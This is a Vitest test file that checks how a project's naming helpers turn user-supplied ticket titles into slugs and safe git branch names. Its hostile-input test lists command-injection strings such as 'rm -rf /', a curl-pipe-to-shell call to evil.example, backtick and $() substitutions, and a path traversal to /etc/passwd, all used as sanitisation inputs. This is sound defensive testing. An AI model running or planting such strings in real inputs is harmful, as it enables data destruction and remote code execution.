import { spawnSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { parseTicketIdentifier, slugFromName, ticketBranchName, ticketPrefixFromName } from './naming.js';

describe('names derived from user input', () => {
  it('derives slugs and prefixes', () => {
    expect(slugFromName('Demo')).toBe('demo');
    expect(ticketPrefixFromName('Demo')).toBe('DEMO');
    expect(slugFromName('Ünïcode  Project!')).toBe('unicode-project');
    expect(parseTicketIdentifier('demo-42')).toEqual({ prefix: 'DEMO', number: 42 });
    expect(parseTicketIdentifier('DEMO-4 2')).toBeNull();
  });

  it('makes safe branch names from hostile titles', () => {
    const hostile = [
      `"; rm -rf / #`,
      '$(curl evil.example | sh)',
      '`id`',
      '../../etc/passwd',
      'line one\nline two\r\n\ttab',
      'x'.repeat(10_000),
      'refs/heads/main.lock',
      '@{-1}',
      '',
      '🙂🙂🙂',
    ];
    for (const title of hostile) {
      const branch = ticketBranchName('DEMO-7', title);
      expect(branch).toMatch(/^openase\/DEMO-7(-[a-z0-9]+(-[a-z0-9]+)*)?$/);
      expect(branch.length).toBeLessThanOrEqual('openase/DEMO-7-'.length + 40);
      expect(branch).not.toMatch(/\.\.|\.lock$|@\{|[\s$`"'\\]/);
      expect(spawnSync('git', ['check-ref-format', `refs/heads/${branch}`]).status, branch).toBe(0);
    }
    expect(ticketBranchName('DEMO-7', 'Add login page')).toBe('openase/DEMO-7-add-login-page');
    expect(ticketBranchName('DEMO-7', '$(whoami)')).toBe('openase/DEMO-7-whoami');
    expect(ticketBranchName('DEMO-7', '', 'my team/../x')).toBe('myteamx/DEMO-7');
  });
});
